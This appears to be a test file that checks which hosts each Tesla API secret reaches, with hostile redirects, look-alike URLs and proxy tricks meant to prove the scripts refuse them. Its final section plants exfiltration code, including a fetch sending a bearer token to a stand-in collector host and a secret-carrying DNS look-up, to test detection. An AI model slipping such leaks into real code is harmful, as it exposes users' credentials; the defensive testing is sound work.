// Where each secret goes. Every script runs under a recorder of all connections, name look-ups and child
// processes (test/faults/recorder.mjs); what arrived, secret by secret and host by host, must be the table "Where
// secrets go" of docs/security.md. Then redirects, look-alike hosts, proxies of the environment and answers
// that name other hosts: nothing goes anywhere else. What Tesla's servers do with a secret afterwards nobody can
// see from here.
import assert from "node:assert/strict";
import { createPrivateKey } from "node:crypto";
import { readdirSync, readFileSync, rmSync } from "node:fs";
import { createServer, isIP, type AddressInfo } from "node:net";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { secretsTable, type Cell } from "../pictures/secrets_table.ts";
import { FLEET_API, TOKEN_HOST } from "../../lib/hosts.ts";
import { makeCertificates } from "../simulator/server.ts";
import type { SeenRequest } from "../simulator/tesla/tesla.ts";
import {
  assertEnd,
  freePort,
  IN_A_HURRY,
  newOwner,
  ownerTest,
  plantedCopy,
  PROJECT,
  startLogin,
  useRedirect,
  visitWhenListening,
  type Owner,
  type Result,
  type RunOptions,
} from "../support/harness.ts";
import { headerOf } from "../rules/project_rules.ts";
import { ONLY_AT_LENGTH } from "../support/length.ts";

const RECORDER = new URL("./recorder.mjs", import.meta.url).href;
const hostsSeen = new Set<string>();
let connections = 0;

// ---- The recorder ----

interface Note {
  what: string;
  where: string;
}

function recorded(owner: Owner): RunOptions {
  return { node: [...IN_A_HURRY, "--import", RECORDER], env: { TEST_RECORD: owner.path("record") } };
}

function takeNotes(owner: Owner): Note[] {
  const notes = owner
    .read("record")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Note);
  rmSync(owner.path("record"));
  assert.equal(notes[0]?.what, "recorder", "the run was not watched");
  return notes.slice(1);
}

function ports(owner: Owner): string[] {
  const { port, proxyUrl, plainProxyUrl } = owner.simulator;
  return [String(port), new URL(proxyUrl).port, new URL(plainProxyUrl).port];
}

/** What a run did besides connecting to the simulated Tesla, under the names that these hosts have. */
function elsewhere(owner: Owner, notes: Note[], hosts: string[], listens: string[] = []): string[] {
  const complaints: string[] = [];
  for (const { what, where } of notes) {
    if (what === "connect") {
      connections += 1;
      const [address, port = ""] = where.split(":");
      if (address !== "127.0.0.1" || !ports(owner).includes(port)) complaints.push(`connected to ${where}`);
    } else if (what === "host") {
      hostsSeen.add(where.replace(/127\.0\.0\.1:\d+/, "(your proxy)"));
      if (!hosts.includes(where)) complaints.push(`wanted ${where}`);
    } else if (what === "look-up" && isIP(where) > 0)
      continue; // listening on an address: nobody is asked
    else if (what !== "listen" || !listens.some((one) => where === one)) complaints.push(`${what} ${where}`);
  }
  return complaints;
}

// ---- What arrived ----

function kindOf(owner: Owner, request: SeenRequest): string {
  const origin = `https://${request.host}`;
  if (Object.values(TOKEN_HOST).includes(origin)) return "token host";
  if (Object.values(FLEET_API).includes(origin)) return "Fleet API";
  if (origin === `https://${owner.simulator.partner.domain}`) return "your domain";
  if (request.host.startsWith("127.0.0.1:")) return "your proxy, if set";
  return `another host: ${request.host}`;
}

// The secrets by kind. The values are taken from where they are made and kept, not from the requests.
function secretsByKind(owner: Owner): Record<string, string[]> {
  const { account } = owner.simulator;
  const tokens = [...account.accessTokens];
  const codes = [...account.codes.keys()];
  const key = owner.has("private-key.pem")
    ? (createPrivateKey(owner.read("private-key.pem")).export({ format: "jwk" }).d ?? "")
    : "";
  const verifiers = owner.simulator.requests.map(
    ({ body }) => new URLSearchParams(body).get("code_verifier") ?? "",
  );
  return {
    "client secret": [account.clientSecret],
    "authorization code, PKCE verifier": [...codes, ...verifiers],
    "refresh token": account.chains.flatMap((chain) => [chain.current, chain.lastUsed]),
    "access token": tokens.filter(([, { kind }]) => kind === "user").map(([token]) => token),
    "partner token": tokens.filter(([, { kind }]) => kind === "partner").map(([token]) => token),
    // The number; the rest of the file is no secret.
    "private key": [key, Buffer.from(key, "base64url").toString("hex")],
  };
}

/** "secret > kind of host" for each secret that stands anywhere in these requests. */
function whatArrived(owner: Owner, requests: SeenRequest[]): Set<string> {
  const found = new Set<string>();
  for (const request of requests) {
    const { path, headers, body } = request;
    const [, message = ""] = /"routable_message":"([^"]*)"/.exec(body) ?? [];
    const whole = [
      path,
      body,
      Buffer.from(message, "base64").toString("hex"),
      ...Object.entries(headers).flat(),
    ].join("\n");
    let decoded = "";
    try {
      decoded = decodeURIComponent(whole.replaceAll("+", " "));
    } catch {} // no encoding in it
    for (const [kind, secrets] of Object.entries(secretsByKind(owner))) {
      for (const secret of secrets.filter((one) => one.length >= 8)) {
        const base64 = Buffer.from(secret).toString("base64").replace(/=+$/, "");
        if ([secret, base64].some((form) => whole.includes(form) || decoded.includes(form))) {
          found.add(`${kind} > ${kindOf(owner, request)}`);
        }
      }
    }
  }
  return found;
}

// ---- The table ----

function headerOfScript(script: string): ReturnType<typeof headerOf> {
  const path = `scripts/${script}.ts`;
  return headerOf(path, readFileSync(join(PROJECT, path), "utf8"));
}

/** What the table lets a script send: "secret > kind of host". Those of "every call" go with Fleet API in
 * the header. */
function allowed(script: string, table: Cell[]): Set<string> {
  const { contacts, reads } = headerOfScript(script);
  const words = contacts.join(", ");
  const found = new Set<string>();
  for (const { secret, kind, scripts } of table) {
    const everyCall =
      scripts === "every call" && words.includes("Fleet API") && reads.includes("tesla_token.json");
    const commands = scripts === "with a command only" && words.includes("TESLA_PROXY_URL");
    if (everyCall || commands || (Array.isArray(scripts) && scripts.includes(script)))
      found.add(`${secret} > ${kind}`);
  }
  return found;
}

// ---- Each script, in every way in which it sends something else ----

interface Way {
  words: string[];
  settings?: (owner: Owner) => Record<string, string>;
  before?: (owner: Owner) => void;
}

const AMPS_PROXY = (owner: Owner): Record<string, string> => ({
  TESLA_COMMANDS: "proxy",
  TESLA_PROXY_URL: owner.simulator.proxyUrl,
});

// With the private key beside the certificate, which must stay here.
function writeTelemetry(owner: Owner): void {
  const { ca, key } = makeCertificates(["telemetry.car.example.com"]);
  owner.write("telemetry-ca.pem", key + ca);
  owner.write("telemetry.json", readFileSync(join(PROJECT, "examples", "telemetry.json")));
}
const WAYS: Record<string, Way[]> = {
  generate_key: [
    {
      words: [],
      before: (owner) => ["private-key.pem", "public-key.pem"].forEach((name) => rmSync(owner.path(name))),
    },
  ],
  register_partner: [{ words: [] }, { words: ["--skip-check"] }],
  list_vehicles: [{ words: [] }],
  read_charge: [{ words: ["--json"] }],
  wake_up: [{ words: [] }],
  refresh_token: [{ words: [] }],
  check_setup: [{ words: [] }, { words: ["--free"] }],
  set_charge_amps: [
    { words: ["9", "--verify"] },
    { words: ["9", "--dry-run"] },
    { words: ["9", "--verify"], settings: AMPS_PROXY },
    {
      words: ["9"],
      settings: () => ({ TESLA_COMMANDS: "rest" }),
      before: (owner) => owner.simulator.fail("reason:already_set", 1),
    },
  ],
  send_command: [
    { words: ["charge_stop"] },
    { words: ["door_lock", "--dry-run"] },
    { words: ["charge_stop"], settings: AMPS_PROXY },
  ],
  call_api: [
    { words: ["GET", "/api/1/products"] },
    { words: ["GET", "/api/1/partner_accounts/public_key?domain=DOMAIN", "--partner"] },
  ],
  telemetry_config: [
    { words: ["show"] },
    { words: ["send", "telemetry.json"], before: writeTelemetry },
    { words: ["send", "telemetry.json", "--dry-run"] },
    { words: ["errors"] },
    { words: ["remove"] },
  ],
};

function hostsOf(script: string, owner: Owner): string[] {
  const { contacts } = headerOfScript(script);
  const words = contacts.join(", ");
  const region = owner.simulator.account.region;
  return [
    ...(words.includes("token host") ? [TOKEN_HOST[region] ?? ""] : []),
    ...(words.includes("Fleet API") ? [FLEET_API[region] ?? ""] : []),
    ...(words.includes("TESLA_DOMAIN") ? [`https://${owner.simulator.partner.domain}`] : []),
    ...(words.includes("TESLA_PROXY_URL") ? [owner.simulator.proxyUrl, owner.simulator.plainProxyUrl] : []),
  ];
}

const table = secretsTable();
const used = new Set<string>(); // "script: secret > kind", to see that no cell of the table is empty talk

/** Runs a script and returns what it did that neither its header nor the table tells. */
async function complaintsOf(owner: Owner, script: string, way: Way, file = script): Promise<string[]> {
  way.before?.(owner);
  if (way.settings) owner.setSettings({ ...owner.options.settings, ...way.settings(owner) });
  const words = way.words.map((word) => word.replace("DOMAIN", owner.simulator.partner.domain));
  const result = await owner.run(file, words, recorded(owner));
  return judge(owner, script, result, way.words.includes("--dry-run"));
}

function judge(
  owner: Owner,
  script: string,
  result: Result,
  dryRun = false,
  listens: string[] = [],
): string[] {
  const complaints = elsewhere(owner, takeNotes(owner), hostsOf(script, owner), listens);
  const may = allowed(script, table);
  for (const one of whatArrived(owner, result.requests)) {
    used.add(`${script}: ${one}`);
    if (!may.has(one)) complaints.push(`${script} sent ${one}`);
  }
  for (const request of result.requests) {
    const isCommand = /\/(command|signed_command)\b/.test(request.path);
    if (kindOf(owner, request).startsWith("your proxy") && !isCommand)
      complaints.push(`the proxy got ${request.path}`);
  }
  if (dryRun && result.requests.length > 0) complaints.push("--dry-run sent something");
  return complaints;
}

describe("each script", { concurrency: 2 }, () => {
  for (const [script, ways] of Object.entries(WAYS)) {
    ownerTest(`${script}: each secret goes where the table says`, {}, async (owner) => {
      for (const way of ways)
        assert.deepEqual(await complaintsOf(owner, script, way), [], way.words.join(" "));
    });
  }

  ownerTest("get_token: each secret goes where the table says", { loggedIn: false }, async (owner) => {
    const redirect = await useRedirect(owner);
    const { running, address } = await startLogin(owner, [], recorded(owner));
    await visitWhenListening(await owner.simulator.consent(address));
    const result = await running.ended;
    assertEnd(result, 0);
    const { port } = new URL(redirect);
    assert.deepEqual(judge(owner, "get_token", result, false, [`127.0.0.1:${port}`, `::1:${port}`]), []);
  });

  ownerTest("serve_public_key: connects to nobody, listens on loopback", {}, async (owner) => {
    const port = String(await freePort());
    const running = owner.start("serve_public_key", ["--port", port], recorded(owner));
    await running.said(/Ctrl-C ends/);
    running.child.kill();
    await running.ended;
    assert.deepEqual(elsewhere(owner, takeNotes(owner), [], [`127.0.0.1:${port}`]), []);
  });

  test("no script is left out", () => {
    const scripts = readdirSync(join(PROJECT, "scripts"))
      .map((name) => name.replace(".ts", ""))
      .sort();
    assert.deepEqual([...Object.keys(WAYS), "get_token", "serve_public_key"].sort(), scripts);
  });
});

test("the table promises nothing that was not seen", () => {
  for (const { secret, kind, scripts } of table) {
    if (Array.isArray(scripts))
      for (const script of scripts)
        assert.ok(used.has(`${script}: ${secret} > ${kind}`), `${script}: ${secret}`);
    else
      assert.ok(
        [...used].some((one) => one.endsWith(`: ${secret} > ${kind}`)),
        `${secret} > ${kind}`,
      );
  }
});

// ---- Hostile answers ----

/** A listener of somebody else's: what it is sent, in plain text. */
async function collector(): Promise<{ port: number; got: string[]; close: () => void }> {
  const got: string[] = [];
  const server = createServer((socket) => {
    got.push("a connection");
    socket.on("data", (part) => got.push(part.toString("latin1")));
    socket.on("error", () => {});
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { port: (server.address() as AddressInfo).port, got, close: () => server.close() };
}

const ONE_EACH: [string, string[], string][] = [
  // script, words, a part of the path that it calls
  ["refresh_token", [], "/oauth2/v3/token"],
  ["read_charge", [], "/vehicle_data"],
  ["set_charge_amps", ["9"], "/signed_command"],
  ["register_partner", [], "/.well-known/"],
  ["register_partner", ["--skip-check"], "/partner_accounts"],
];

describe("hostile answers and surroundings", { concurrency: 2 }, () => {
  for (const [script, words, path] of ONE_EACH) {
    ownerTest(`${script} ${words.join(" ")}: redirects of every kind are refused`, {}, async (owner) => {
      const other = await collector();
      const origin = FLEET_API.eu;
      const targets: [number, string][] = [
        [301, `http://127.0.0.1:${other.port}/`],
        [302, `https://127.0.0.1:${other.port}/`],
        [303, "//collector.invalid/"],
        [307, `http://${new URL(origin ?? "").host}/downgrade`],
        [308, `${origin}/same-host`],
        [300, "https://collector.invalid/"],
      ];
      for (const [status, location] of targets) {
        owner.answer(path, status, "", {
          location,
          refresh: `0; url=${location}`,
          "content-location": location,
          link: `<${location}>`,
        });
        const result = await owner.run(script, words, recorded(owner));
        owner.simulator.clear();
        assert.notEqual(result.code, 0, `${status} ${location}`);
        assert.match(result.stderr, /redirect/);
        assert.equal(
          result.requests.filter((request) => request.path.includes(path)).length,
          1,
          `${status} ${location}`,
        );
        assert.equal(result.requests.at(-1)?.path.includes(path), true, "nothing after it");
        assert.deepEqual(elsewhere(owner, takeNotes(owner), hostsOf(script, owner)), []);
      }
      assert.deepEqual(other.got, []);
      other.close();
    });
  }

  ownerTest("a 421 and other answers that name another host", {}, async (owner) => {
    const evil = "https://fleet-api.prd.na.vn.cloud.tesla.com.collector.invalid";
    const texts: [number, unknown, Record<string, string>][] = [
      [421, { error: `user out of region, use base URL: ${evil}, see https://collector.invalid/` }, {}],
      [
        421,
        { error: "use base URL: https://fleet-api.prd.na.vn.cloud.tesla.com@collector.invalid/" },
        { location: evil },
      ],
      [421, "<html><meta http-equiv=refresh content='0;url=https://collector.invalid'>", {}],
      [
        200,
        {
          response: { charge_state: { battery_level: 5 } },
          base_url: evil,
          next: evil,
          fleet_api_base_url: evil,
        },
        { location: evil },
      ],
      [
        401,
        { error: "invalid bearer token", error_uri: "https://collector.invalid/" },
        { "www-authenticate": `Bearer realm="${evil}"` },
      ],
      [429, "slow", { "retry-after": "0" }],
      [503, "", { "retry-after": "0", location: evil }],
    ];
    for (const [status, body, headers] of texts) {
      owner.answer("/vehicle_data", status, body, {
        ...headers,
        "alt-svc": 'h2="collector.invalid:443"; ma=99',
      });
      const result = await owner.run("read_charge", [], recorded(owner));
      owner.simulator.clear();
      assert.equal(result.requests.length, 1, `${status}: one request`);
      assert.deepEqual(elsewhere(owner, takeNotes(owner), hostsOf("read_charge", owner)), []);
    }
    const { account } = owner.simulator;
    owner.answer("/oauth2/v3/token", 200, {
      ...owner.newToken(),
      fleet_api: evil,
      token_endpoint: evil,
      iss: evil,
    });
    assertEnd(await owner.run("refresh_token", [], recorded(owner)), 0);
    assert.deepEqual(elsewhere(owner, takeNotes(owner), hostsOf("refresh_token", owner)), []);
    owner.simulator.clear();
    assertEnd(await owner.run("read_charge", [], recorded(owner)), 0);
    assert.deepEqual(elsewhere(owner, takeNotes(owner), hostsOf("read_charge", owner)), []);
    assert.equal(account.region, "eu");
  });

  // What a setting names is either refused, or the owner's own host: and then exactly that one is called.
  ownerTest("TESLA_PROXY_URL: tricks are refused before anything is sent", {}, async (owner) => {
    const refused = [
      "http://tesla.com.evil",
      "http://localhost.evil.example",
      "http://127.0.0.1.evil.example",
      "http://127.0.0.1@evil.example",
      "https://localhost:4443@evil.example",
      "https://owner:secret@127.0.0.1",
      "http://localhost:80\\@evil.example/",
      "http://[::1]evil.example",
      "http://127.1",
      "http://0.0.0.0:4443",
      "http://192.168.1.5:4443",
      "https://evil.example/path",
      "https://evil.example?x",
      "https://evil.example#x",
      "ftp://127.0.0.1",
      "//127.0.0.1",
      "127.0.0.1:4443",
      "file:///etc/passwd",
      "https://",
      "http://localhost:4443/path",
      "https:/evil.example",
      "HTTP://localhost.evil",
      "http://ⓛocalhost:4443",
      "http://localhost。evil.example",
    ];
    for (const url of refused) {
      const env = { TESLA_COMMANDS: "proxy", TESLA_PROXY_URL: url, ...recorded(owner).env };
      const result = await owner.run("set_charge_amps", ["9"], { ...recorded(owner), env });
      assertEnd(result, 5, "TESLA_PROXY_URL");
      assert.deepEqual(takeNotes(owner), [], url);
    }
    // Tesla's own hosts are no proxy, whatever their spelling: the token host must not get the access token.
    for (const host of [
      "fleet-auth.prd.vn.cloud.tesla.com",
      "FLEET-AUTH.prd.vn.cloud.tesla.com",
      "fleet-auth.prd.vn.cloud.tesla.com:443",
    ]) {
      owner.setSettings({ TESLA_COMMANDS: "proxy", TESLA_PROXY_URL: `https://${host}` });
      const result = await owner.run("set_charge_amps", ["9"], recorded(owner));
      assert.notEqual(result.code, 0);
      assert.deepEqual(result.requests, [], host);
      assert.deepEqual(takeNotes(owner), [], host);
    }
    for (const url of [
      "https://tesla.com.evil",
      "https://xn--tsla-xra.com",
      "https://evil.example\\@127.0.0.1",
    ]) {
      owner.setSettings({ TESLA_COMMANDS: "proxy", TESLA_PROXY_URL: url });
      const result = await owner.run("set_charge_amps", ["9"], recorded(owner));
      assert.notEqual(result.code, 0);
      assert.deepEqual(
        elsewhere(owner, takeNotes(owner), [new URL(url).origin]),
        [],
        "the owner's own setting, and no other",
      );
      assert.deepEqual(result.requests, []);
    }
  });

  ownerTest("TESLA_DOMAIN: tricks are refused before anything is sent", {}, async (owner) => {
    const refused = [
      "https://example.com",
      "example.com/",
      "example.com:8443",
      "owner@evil.example",
      "evil.example/.well-known",
      "evil.example?",
      "evil.example#",
      "EXAMPLE.com",
      "teѕla.com",
      "example..com",
      ".example.com",
      "example.com.",
      "-a.com",
      "127.0.0.1",
      "localhost",
      "[::1]",
      "a b.com",
      "evil.example\\x",
      "evil.example%2f",
      "evil.example\ttesla.com",
    ];
    for (const domain of refused) {
      const env = { TESLA_DOMAIN: domain, ...recorded(owner).env };
      const result = await owner.run("register_partner", [], { ...recorded(owner), env });
      assertEnd(result, 5, "TESLA_DOMAIN");
      assert.deepEqual(takeNotes(owner), [], domain);
    }
    // A name like any other: asked for the key, without a secret.
    owner.setSettings({ TESLA_DOMAIN: "tesla.com.evil.example" });
    const result = await owner.run("register_partner", [], recorded(owner));
    assert.notEqual(result.code, 0);
    assert.deepEqual(elsewhere(owner, takeNotes(owner), ["https://tesla.com.evil.example"]), []);
  });

  ownerTest("no variable of the environment leads elsewhere", {}, async (owner) => {
    const other = await collector();
    const proxy = `http://127.0.0.1:${other.port}`;
    const names = [
      "HTTPS_PROXY",
      "HTTP_PROXY",
      "ALL_PROXY",
      "https_proxy",
      "http_proxy",
      "all_proxy",
      "npm_config_proxy",
      "npm_config_https_proxy",
      "TESLA_BASE_URL",
      "TESLA_API_URL",
      "TESLA_AUTH_URL",
      "TESLA_FLEET_API",
      "TESLA_TOKEN_HOST",
      "FLEET_API",
      "AUTH_URL",
      "TESLA_PROXY_URL",
      "TESLA_AUDIENCE",
    ];
    const env = Object.fromEntries(names.map((name) => [name, proxy]));
    for (const [script, words] of [
      ["refresh_token", []],
      ["read_charge", []],
      ["set_charge_amps", ["9"]],
    ] as [string, string[]][]) {
      const result = await owner.run(script, words, {
        ...recorded(owner),
        env: { ...env, ...recorded(owner).env },
      });
      assertEnd(result, 0);
      assert.deepEqual(elsewhere(owner, takeNotes(owner), hostsOf(script, owner)), []);
    }
    assert.deepEqual(other.got, []);
    other.close();
  });
});

// ---- The check itself: planted violations must be seen ----

const PLANTED_AT = 'let [status, text, found] = [0, "", ""];';
const PLANTS: [string, string, string, string, string, RegExp][] = [
  [
    "a token in a request to another host",
    "read_charge",
    "lib/tesla_fetch.ts",
    PLANTED_AT,
    `${PLANTED_AT} void fetch(\`https://collector.invalid/?\${bearer}\`).catch(() => {});`,
    /wanted https:\/\/collector\.invalid/,
  ],
  [
    "a name look-up that carries a secret",
    "read_charge",
    "lib/tesla_fetch.ts",
    PLANTED_AT,
    `${PLANTED_AT} (await import('node:dns')).lookup('x.collector.invalid', () => {});`,
    /look-up x\.collector\.invalid/,
  ],
  [
    "a plain connection",
    "refresh_token",
    "lib/tesla_fetch.ts",
    PLANTED_AT,
    `${PLANTED_AT} (await import('node:net')).connect(9, '127.0.0.1').on('error', () => {});`,
    /connected to 127\.0\.0\.1:9/,
  ],
  [
    "a child process",
    "read_charge",
    "lib/tesla_fetch.ts",
    PLANTED_AT,
    `${PLANTED_AT} (await import('node:child_process')).spawn('true');`,
    /child process true/,
  ],
  [
    "the client secret with a refresh",
    "refresh_token",
    "scripts/refresh_token.ts",
    'grant_type: "refresh_token",',
    'grant_type: "refresh_token", client_secret: readSettings(["TESLA_CLIENT_SECRET"]).TESLA_CLIENT_SECRET,',
    /client secret > token host/,
  ],
  [
    "the private key with a command",
    "set_charge_amps",
    "lib/signing/signed_message.ts",
    "[MESSAGE.infoRequest, [[1, key.getPublicKey()]]],",
    "[MESSAGE.infoRequest, [[1, key.getPublicKey()]]], [99, key.getPrivateKey()],",
    /private key > Fleet API/,
  ],
  [
    "the refresh token to Fleet API",
    "read_charge",
    "scripts/read_charge.ts",
    "path, access_token)",
    "path, readToken().refresh_token)",
    /refresh token > Fleet API/,
  ],
];

describe("a violation is seen:", { concurrency: 2, skip: ONLY_AT_LENGTH }, () => {
  for (const [title, script, file, from, to, complaint] of PLANTS) {
    test(title, { timeout: 60_000 }, async () => {
      const copy = plantedCopy(file, from, to);
      const owner = await newOwner({ expectUnexpected: true });
      try {
        const complaints = await complaintsOf(
          owner,
          script,
          { words: script === "set_charge_amps" ? ["9"] : [] },
          join(copy, "scripts", `${script}.ts`),
        );
        assert.match(complaints.join("\n"), complaint);
      } finally {
        await owner.close(true);
      }
    });
  }
});

after(() => console.log(`# ${connections} connections, to the hosts ${[...hostsSeen].sort().join(" ")}`));
